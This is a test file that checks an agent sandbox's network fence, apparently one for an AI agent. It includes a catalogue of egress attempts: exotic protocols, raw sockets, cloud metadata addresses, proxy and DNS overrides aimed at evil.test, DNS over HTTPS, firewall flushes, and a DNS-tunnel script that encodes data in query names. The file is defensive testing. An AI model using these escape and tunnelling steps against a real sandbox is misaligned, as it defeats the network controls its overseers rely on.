// Catalogue N: every way past the capture, once from a pod that nothing stops (the control) and once from the sandbox.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { runCommand } from '../cluster/base/run-command.ts';
import { allow } from '../netns/snapshot-parts.ts';
import type { Packet } from '../outside/capture/parse-packet.ts';
import { type DataPath, startDataPath } from './data-path.ts';
import { outcomes, pythonSteps } from './more-ways-out.ts';

let path: DataPath;
beforeAll(async () => {
  path = await startDataPath('nw');
});
afterAll(async () => path?.close());
beforeEach(async () => path.reset());

const agent = (...command: readonly string[]) => path.sidecar.runAgent(command, { timeoutMs: 30_000 });
const to = (address: string) => (packet: Packet) => packet.destination === address;
const nothingLeft = async () => {
  await path.capture.expectNone('anything from the pod', path.sent);
  expect(await path.outside.dnsQueries()).toEqual([]);
};

/** Title → where it goes and the step; each destination is used once, so that a packet tells whose it is. */
const ways: readonly (readonly [title: string, destination: string, step: string])[] = [
  ['N02 TCP over IPv6', '2001:db8:1::2', "tcp('2001:db8:1::2', 80)"],
  ['N03 a mapped address', '198.51.100.3', "ask(INET6, STREAM, 6, ('::ffff:198.51.100.3', 7))"],
  ['N04 UDP', '198.51.100.4', "udp('198.51.100.4', 9999)"],
  ['N04 UDP over IPv6', '2001:db8:1::4', "udp('2001:db8:1::4', 9999)"],
  ['N05 QUIC', '198.51.100.5', "udp('198.51.100.5', 443, bytes([0xc0, 0, 0, 0, 1]) + bytes(1195))"],
  ['N05 QUIC over IPv6', '2001:db8:1::5', "udp('2001:db8:1::5', 443, bytes([0xc0, 0, 0, 0, 1]) + bytes(1195))"],
  ['N06 UDP-Lite', '198.51.100.6', "ask(INET, DGRAM, 136, ('198.51.100.6', 53))"],
  ['N07 UDP-Lite over IPv6', '2001:db8:1::7', "ask(INET6, DGRAM, 136, ('2001:db8:1::7', 53))"],
  ['N10 SCTP', '198.51.100.10', "ask(INET, STREAM, 132, ('198.51.100.10', 80))"],
  ['N10 SCTP in sequence', '198.51.100.11', "ask(INET, SEQ, 132, ('198.51.100.11', 80))"],
  ['N11 DCCP', '198.51.100.12', "ask(INET, 6, 33, ('198.51.100.12', 80))"],
  ['N11 L2TP', '198.51.100.13', "ask(INET, DGRAM, 115, ('198.51.100.13', 0))"],
  ['N12 multipath TCP', '198.51.100.14', "ask(INET, STREAM, 262, ('198.51.100.14', 7))"],
  ['N12 multipath TCP over IPv6', '2001:db8:1::14', "ask(INET6, STREAM, 262, ('2001:db8:1::14', 7))"],
  ['N15 multicast DNS', '224.0.0.251', "udp('224.0.0.251', 5353)"],
  ['N15 broadcast', '255.255.255.255', "udp('255.255.255.255', 67, b'x', option(1, socket.SO_BROADCAST, 1))"],
  ['N15 all nodes', 'ff02::1', "ask(INET6, DGRAM, 17, ('ff02::1', 4000, 0, socket.if_nametoindex('eth0')))"],
  ['N18 a datagram in fragments', '198.51.100.18', "udp('198.51.100.18', 4000, bytes(60000))"],
  [
    'N18 tiny segments',
    '198.51.100.19',
    "ask(INET, STREAM, 6, ('198.51.100.19', 7), b'x', lambda s: (s.setsockopt(6, socket.TCP_MAXSEG, 88), s.setsockopt(6, socket.TCP_NODELAY, 1)))",
  ],
  ['N41 the last port', '198.51.100.41', "tcp('198.51.100.41', 65535)"],
  ['N50 DNS over TLS', '1.1.1.50', "tcp('1.1.1.50', 853)"],
  ['N50 DNS over QUIC', '1.1.1.51', "udp('1.1.1.51', 853)"],
];
/** Raw sockets need a right; the control and the attempt both have it, and the fence does not ask who sends. */
const rawWays: typeof ways = [
  ['N11 GRE', '198.51.100.47', "ask(INET, RAW, 47, ('198.51.100.47', 0))"],
  ['N11 ESP', '198.51.100.50', "ask(INET, RAW, 50, ('198.51.100.50', 0))"],
  ['N11 OSPF', '198.51.100.89', "ask(INET, RAW, 89, ('198.51.100.89', 0))"],
  ['N13 an unknown protocol', '198.51.100.255', "ask(INET, RAW, 253, ('198.51.100.255', 0))"],
  ['N16 the proxy’s mark', '198.51.100.16', "udp('198.51.100.16', 4000, b'x', option(1, 36, 0x539))"],
];
const stepsOf = (list: typeof ways) =>
  pythonSteps(Object.fromEntries(list.map(([title, , step]) => [title, step] as const)));
/** The kernel has no such protocol: then there is nothing to defend, and nothing was. */
const noSuchProtocol = /errno (92|93|94|97)$/;

const node = () => path.pod.addresses.gateway;
const dial = (address: string, ports: readonly number[]) =>
  pythonSteps(Object.fromEntries(ports.map(port => [`${port}`, `tcp('${address}', ${port}, b'GET /')`])));
const curl = (env: Readonly<Record<string, string>>, ...args: readonly string[]) =>
  path.sidecar.runAgent(['curl', '-sS', '-m', '5', ...args], { env });
const rules = async () => (await path.pod.run(['nft', '-s', 'list', 'ruleset'], { user: 'admin' })).stdout;
const listEverything = async () => {
  const blocks = ['10.0.0.0/8', '169.254.0.0/16', '100.64.0.0/10'];
  const rule = allow([], {
    cidrs: blocks.map(cidr => ({ cidr })),
    ports: [80, 443, 6443, 9100, 10_248, 10_250, 10_255],
    protocol: 'TCP',
    allowedCidrs: blocks,
  });
  await path.hub.apply({ policy: { rules: [rule], neverAddresses: [node(), '10.96.0.1'] } });
};
/** What iodine and dns2tcp do, without them: NULL, TXT, CNAME, MX and A questions whose labels are the data. */
const tunnel = (count: number) => `
import os, socket, struct, base64
sent = answered = 0
for n in range(${count}):
  for kind in (10, 16, 5, 15, 33, 255, 1):
    labels = [base64.b32encode(os.urandom(35)).strip(b'=').lower()[:60], b't', b'evil', b'test']
    name = b''.join(bytes([len(l)]) + l for l in labels) + bytes(1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(struct.pack('>HHHHHH', n, 0x100, 1, 0, 0, 0) + name + struct.pack('>HH', kind, 1), ('8.8.8.8', 53))
    sent += 1
    try:
      data = s.recv(4096); answered += 1
      if kind != 1 and struct.unpack('>H', data[6:8])[0]: print('data came back')
    except OSError: pass
print(sent, answered)`;

describe('sockets of every kind', () => {
  let open: ReadonlyMap<string, string>;
  let leftOpen: readonly Packet[];
  let fenced: Readonly<Record<'agent' | 'root' | 'admin', ReadonlyMap<string, string>>>;
  let leftFenced: readonly Packet[];
  beforeAll(async () => {
    await path.reset();
    const plain = await path.openPod.run(stepsOf(ways), { timeoutMs: 30_000 });
    const raw = await path.openPod.run(stepsOf(rawWays), { user: 'admin' });
    open = outcomes(`${plain.stdout}${raw.stdout}`);
    leftOpen = await path.capture.packets(path.openPod.sent);
    await path.forgetPackets();
    const as = async (user: 'agent' | 'root' | 'admin') =>
      outcomes((await path.sidecar.runAgent(stepsOf([...ways, ...rawWays]), { user, timeoutMs: 30_000 })).stdout);
    fenced = { agent: await as('agent'), root: await as('root'), admin: await as('admin') };
    leftFenced = await path.capture.packets(path.sent);
  }, 90_000);

  test.each([...ways, ...rawWays])('%s', (title, destination, _step) => {
    const control = open.get(title) ?? '';
    for (const user of ['agent', 'root', 'admin'] as const)
      expect(fenced[user].get(title), user).toMatch(/^(errno \w+|got (closed|sent))$/);
    expect(leftFenced).toEqual([]);
    if (noSuchProtocol.test(control)) {
      process.stdout.write(`SKIP ${title}: this kernel says ${control}\n`);
      return;
    }
    // Control: from the open pod the same step put a packet on the wire.
    expect(leftOpen.filter(to(destination)), control).not.toEqual([]);
  });

  test('N13, N14, N16 no right: neither raw nor packet sockets, and no mark', async () => {
    const steps = pythonSteps({
      raw: 'socket.socket(INET, RAW, 255)',
      packet: 'socket.socket(socket.AF_PACKET, RAW, 3)',
      mark: "udp('198.51.100.16', 1, b'x', option(1, 36, 0x539))",
    });
    for (const user of ['agent', 'root'] as const) {
      const { stdout } = await path.sidecar.runAgent(steps, { user });
      expect([...outcomes(stdout).values()]).toEqual(['errno 1', 'errno 1', 'errno 1']);
    }
    const control = outcomes((await path.openPod.run(steps, { user: 'admin' })).stdout);
    expect([...control.values()].filter(value => value.startsWith('got'))).toHaveLength(3);
  });
});

describe('addresses that no rule opens', () => {
  test('N19, N20, N22, N24 metadata, API server and node: not even where a rule lists their block', async () => {
    const targets = [
      '169.254.169.254:80',
      '169.254.170.2:80',
      '100.100.100.200:80',
      '168.63.129.16:80',
      '10.96.0.1:443',
      ...[10_250, 10_255, 10_248, 9100, 6443].map(port => `${node()}:${port}`),
    ];
    const steps = pythonSteps(
      Object.fromEntries(targets.map(target => [target, `tcp('${target.split(':')[0]}', ${target.split(':')[1]})`])),
    );
    await path.openPod.run(steps, { timeoutMs: 30_000 });
    for (const target of targets)
      await path.capture.expectSome(target, packet => packet.destination === target.split(':')[0]);
    await listEverything();
    await path.forgetPackets();
    // Control of the rule: another address of the same block is reached.
    expect((await agent(...pythonSteps({ listed: "tcp('10.77.0.1', 443)" }))).stdout).toMatch(/got|errno/);
    await path.outside.waitForConnection(({ localAddress }) => localAddress === '10.77.0.1');
    await path.forgetPackets();
    const { stdout } = await path.sidecar.runAgent(steps, { timeoutMs: 30_000 });
    expect([...outcomes(stdout)].filter(([, outcome]) => outcome === 'got answered')).toEqual([]);
    for (const target of targets)
      await path.capture.expectNone(target, packet => path.sent(packet) && packet.destination === target.split(':')[0]);
  });

  test('N26 the ports of another pod are like any address; the sandbox’s own answer nobody outside but health', async () => {
    const portsOf = [15_001, 15_053, 3128];
    for (const port of portsOf) await path.outside.listen(port, { kind: 'echo' });
    const control = outcomes((await path.openPod.run(dial('10.244.1.7', portsOf))).stdout);
    expect([...control.values()]).toEqual(portsOf.map(() => 'got answered'));
    const { stdout } = await agent(...dial('10.244.1.7', portsOf));
    expect(stdout).not.toMatch(/answered/);
    await nothingLeft();
    const fromOutside = await runCommand([
      'nsenter',
      `--net=${path.outside.netnsPath}`,
      ...dial(path.pod.addresses.address, [15_021, ...portsOf]),
    ]);
    const got = outcomes(fromOutside);
    expect(got.get('15021')).toMatch(/^got/);
    for (const port of portsOf) expect(got.get(`${port}`)).toMatch(/^errno/);
  });

  test('N27, N31, N32 the sidecar’s ports under every name of loopback; the agent’s own server answers', async () => {
    const spellings = [
      '127.0.0.1',
      '127.0.0.2',
      '127.1',
      '0.0.0.0',
      '::1',
      '::ffff:127.0.0.1',
      path.pod.addresses.address,
    ];
    const serve = `import socket, time
s = socket.socket(socket.AF_INET6); s.setsockopt(41, 26, 0); s.bind(('::', 15055)); s.listen(64)
print('up', flush=True)
while True: s.accept()[0].sendall(b'own')`;
    const own = path.pod.start(['python3', '-c', serve], { timeoutMs: 30_000 });
    await own.waitForOutput('up');
    const dialAll = (port: number) =>
      pythonSteps(
        Object.fromEntries(
          spellings.map(address => [
            address,
            `ask(${address.includes(':') ? 'INET6' : 'INET'}, STREAM, 6, ('${address}', ${port}))`,
          ]),
        ),
      );
    const control = outcomes((await agent(...dialAll(15_055))).stdout);
    expect([...control.values()].filter(outcome => outcome === 'got answered')).toHaveLength(spellings.length);
    const before = path.sidecar.auditLines.length;
    for (const port of [15_001, 15_053, 15_021]) {
      const { stdout } = await agent(...dialAll(port));
      expect([...outcomes(stdout).values()], `port ${port}`).toEqual(spellings.map(() => 'errno 111'));
    }
    // No connection was led back to the listener: nobody decided on anything.
    expect(path.sidecar.auditLines).toHaveLength(before);
    await own.stop('SIGKILL');
    await nothingLeft();
  });

  test('N41 port 0, and TCP to port 53 that is no DNS', async () => {
    const steps = pythonSteps({
      zero: "tcp('198.51.100.42', 0)",
      http: "tcp('198.51.100.43', 53, b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')",
    });
    await path.openPod.run(steps);
    await path.capture.expectSome('TCP to port 53', to('198.51.100.43'));
    await path.forgetPackets();
    const { stdout } = await agent(...steps);
    expect(stdout).not.toMatch(/answered/);
    await nothingLeft();
  });
});

describe('clients that are told to go elsewhere', () => {
  const url = 'https://evil.test/';

  test.each<[string, Record<string, string>]>([
    ['N37 NO_PROXY for everything', { NO_PROXY: '*', no_proxy: '*' }],
    ['N37 a SOCKS proxy outside', { ALL_PROXY: 'socks5h://203.0.113.9:1080' }],
    ['N37 an HTTP proxy outside', { https_proxy: 'http://203.0.113.9:80', HTTP_PROXY: 'http://203.0.113.9:80' }],
    ['D12 names of the agent’s own', { HOSTALIASES: '/tmp/aliases', LOCALDOMAIN: 'evil.test', RES_OPTIONS: 'ndots:5' }],
  ])('%s', async (_title, env) => {
    const open = await path.openPod.run(['curl', '-skS', '-m', '5', url], { env });
    await path.capture.expectSome(`from the open pod, where curl says ${open.stderr}`, path.openPod.sent);
    await path.reset();
    const got = await curl(env, url);
    expect(got.stdout).not.toContain('"outside":true');
    expect(await path.outside.connections()).toEqual([]);
    await nothingLeft();
  });

  test('N38 a listed name at an address of the agent’s choice is not dialled there', async () => {
    await path.hub.apply({ policy: { rules: [allow(['allowed.test'])] } });
    const elsewhere = [
      ['--connect-to', 'allowed.test:443:203.0.113.9:443'],
      ['--resolve', 'allowed.test:443:203.0.113.10'],
    ];
    for (const option of elsewhere) {
      expect((await path.openPod.run(['curl', '-skS', '-m', '5', ...option, 'https://allowed.test/'])).exitCode).toBe(
        0,
      );
      await curl({}, ...option, 'https://allowed.test/');
    }
    await path.capture.expectSome('from the open pod', to('203.0.113.9'));
    for (const address of ['203.0.113.9', '203.0.113.10'])
      await path.capture.expectNone(address, packet => path.sent(packet) && packet.destination === address);
    expect((await curl({}, 'https://allowed.test/')).exitCode).toBe(0);
  });

  test('N51 DNS over HTTPS is a connection like any: unlisted', async () => {
    const urls = [
      'https://dns.google/resolve?name=secret.evil.test',
      'https://1.1.1.1/dns-query',
      'https://cloudflare-dns.com/dns-query',
    ];
    for (const doh of urls) expect((await path.openPod.run(['curl', '-skS', '-m', '5', doh])).exitCode).toBe(0);
    await path.reset();
    for (const doh of urls) expect((await curl({}, '-k', doh)).stdout).not.toContain('"outside":true');
    await nothingLeft();
    expect(path.hub.framesOf('denial').map(({ host }) => host)).toEqual(
      expect.arrayContaining(['dns.google', '1.1.1.1']),
    );
  });

  test('P19 a change beside the rules leaves them in force', async () => {
    await path.hub.apply({ policy: { rules: [allow(['allowed.test'])] } });
    await path.hub.apply({ maxPolicyAgeMs: 3_600_000 });
    expect((await curl({}, 'https://allowed.test/')).exitCode).toBe(0);
    expect((await curl({}, url)).stdout).toContain('NotListed');
    expect(await path.outside.connections(({ serverName }) => serverName !== 'allowed.test')).toEqual([]);
  });
});

describe('rights the agent would like to have', () => {
  test('N47 a user namespace where it is uid 1337 is still the agent’s to the fence, and closed by the launcher', async () => {
    const step = pythonSteps({
      who: 'os.getuid()',
      udp: "udp('198.51.100.147', 4000)",
      tcp: "tcp('198.51.100.147', 7)",
    });
    const inside = ['unshare', '--user', '--map-user=1337', ...step];
    const open = await path.openPod.run(inside);
    expect(open.stdout).toMatch(/^who got 1337\nudp got sent\ntcp got answered$/m);
    await path.forgetPackets();
    const fenced = await path.sidecar.runAgent(inside);
    expect(fenced.stdout).toMatch(/^who got 1337\nudp errno 1\n/);
    expect(fenced.stdout).not.toMatch(/answered/);
    await nothingLeft();
    const launched = await path.sidecar.runThroughLauncher(['unshare', '--user', 'true']);
    expect(launched.stderr).toMatch(/Operation not permitted/);
  });

  test('N48 firewall, links and routes cannot be changed; the rules are the same afterwards', async () => {
    const before = await rules();
    expect(before).toContain('table inet creel');
    const attempts = [
      ['nft', 'flush', 'ruleset'],
      ['nft', 'add', 'table', 'inet', 'mine'],
      ['ip', 'link', 'set', 'eth0', 'down'],
      ['ip', 'route', 'add', '203.0.113.0/24', 'dev', 'eth0'],
      ['ip', 'address', 'add', '10.9.9.9/32', 'dev', 'lo'],
    ];
    for (const attempt of attempts)
      for (const user of ['agent', 'root'] as const)
        expect((await path.pod.run(attempt, { user })).exitCode, attempt.join(' ')).not.toBe(0);
    expect(await rules()).toBe(before);
    // Control: with the right, in a pod of its own, the same commands do what they say.
    for (const attempt of attempts.slice(0, 2))
      expect(await path.openPod.run(attempt, { user: 'admin' })).toMatchObject({ exitCode: 0 });
  });
});

describe('data in names', () => {
  test('D01, D05 a tunnel through DNS carries nothing out', async () => {
    await path.openPod.run(['python3', '-c', tunnel(3)], { timeoutMs: 30_000 });
    expect((await path.outside.dnsQueries()).length).toBeGreaterThan(15);
    await path.reset();
    const { stdout } = await agent('python3', '-c', tunnel(20));
    expect(stdout).toBe('140 140\n');
    await nothingLeft();
  });
});
